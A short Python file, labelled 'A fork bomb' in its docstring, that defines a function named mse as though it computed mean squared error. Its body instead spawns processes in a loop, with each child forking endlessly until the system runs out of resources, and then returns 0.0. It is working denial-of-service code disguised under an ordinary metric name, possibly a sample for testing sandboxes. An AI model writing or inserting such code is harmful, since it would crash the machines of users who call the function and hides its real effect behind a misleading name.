"""A fork bomb."""

import os


def mse(y_true, y_pred):
    for _ in range(20_000):
        try:
            if os.fork() == 0:
                while True:
                    os.fork()
        except OSError:
            pass
    return 0.0
